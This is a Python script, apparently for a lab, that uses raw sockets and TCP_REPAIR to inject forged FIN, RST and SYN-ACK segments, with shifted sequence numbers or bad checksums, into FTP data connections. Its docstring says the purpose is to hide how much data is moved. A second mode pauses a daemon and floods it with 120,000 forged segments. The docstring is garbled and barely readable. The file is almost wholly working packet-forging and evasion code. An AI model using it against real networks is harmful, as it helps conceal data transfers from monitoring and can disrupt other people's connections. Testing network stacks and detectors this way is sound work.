"""hide.py HOST: transfers over one session, and segments that HOST discards, to hide how much is moved.

Prints a line for each transfer: its path, and the bytes that were moved. hide.py HOST DAEMON: more of them than
the kernel keeps for a daemon that does not run.
"""
import ftplib
import os
import random
import signal
import socket
import struct
import sys

FIN, SYN, RST, ACK, TCP = 1, 2, 4, 16, socket.IPPROTO_TCP
AHEAD = 9_000_000
# From linux/tcp.h.
REPAIR, REPAIR_QUEUE, QUEUE_SEQ, RECEIVED, SENT = 19, 20, 21, 1, 2
# Flags, the distance from the next sequence number, and what the checksum is wrong by.
FORGED = {
    "nothing": [],
    "fin-ahead": [(FIN | ACK, AHEAD, 0)],
    "fin-behind": [(FIN | ACK, -900, 0)],
    "fin-alone": [(FIN, AHEAD, 0)],
    "fin-with-wrong-checksum": [(FIN | ACK, 100, 0x55)],
    "many-fins": [(FIN | ACK, AHEAD + 7 * number, 0) for number in range(20)],
    "rst-ahead": [(RST | ACK, AHEAD, 0)],
    "rst-behind": [(RST, -9000, 0)],
    "syn-ack": [(SYN | ACK, AHEAD, 0)],
}


def next_numbers(data):
    """The next sequence number of this end, and of the other one."""
    data.setsockopt(TCP, REPAIR, 1)
    numbers = []
    for queue in (SENT, RECEIVED):
        data.setsockopt(TCP, REPAIR_QUEUE, queue)
        numbers += struct.unpack("I", data.getsockopt(TCP, QUEUE_SEQ, 4))
    data.setsockopt(TCP, REPAIR, 0)
    return numbers


def checksum(text):
    total = sum(struct.unpack(f"!{len(text) // 2}H", text))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forge(data, numbers, flags, distance, wrong_by, count=1):
    (source, sport), (destination, dport) = data.getsockname(), data.getpeername()
    source, destination = socket.inet_aton(source), socket.inet_aton(destination)
    sequence = (numbers[0] + distance) & 0xFFFFFFFF
    tcp = struct.pack("!HHIIHHHH", sport, dport, sequence, numbers[1], 0x5000 | flags, 500, 0, 0)
    check = checksum(source + destination + struct.pack("!HH", TCP, len(tcp)) + tcp) ^ wrong_by
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0, 64, TCP, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            raw.sendto(ip + source + destination + tcp, (data.getpeername()[0], 0))


def transfer(ftp, verb, path, forged):
    data = ftp.transfercmd(f"{verb} {path}")
    numbers = next_numbers(data)
    for segment in forged:
        forge(data, numbers, *segment)
    moved = 5000
    if verb == "STOR":
        data.sendall(bytes(moved))
    else:
        moved = len(b"".join(iter(lambda: data.recv(65536), b"")))
    for segment in forged:
        forge(data, numbers, *segment)
    data.close()
    ftp.voidresp()
    print(path, moved, flush=True)


with ftplib.FTP(sys.argv[1], "lab", "lab", timeout=60) as ftp:
    if len(sys.argv) > 2:
        data = ftp.transfercmd("STOR /flood")
        numbers = next_numbers(data)
        os.kill(int(sys.argv[2]), signal.SIGSTOP)
        forge(data, numbers, FIN | ACK, -900, 0, 120_000)
        os.kill(int(sys.argv[2]), signal.SIGCONT)
        sys.exit(data.close())
    for name, forged in FORGED.items():
        for verb in ("STOR", "RETR"):
            for passive in (True, False):
                # HOST may have ended this one before.
                if (name, verb, passive) == ("syn-ack", "RETR", False):
                    continue
                ftp.set_pasv(passive)
                transfer(ftp, verb, f"/{name}-{verb}-{'passive' if passive else 'active'}", forged)
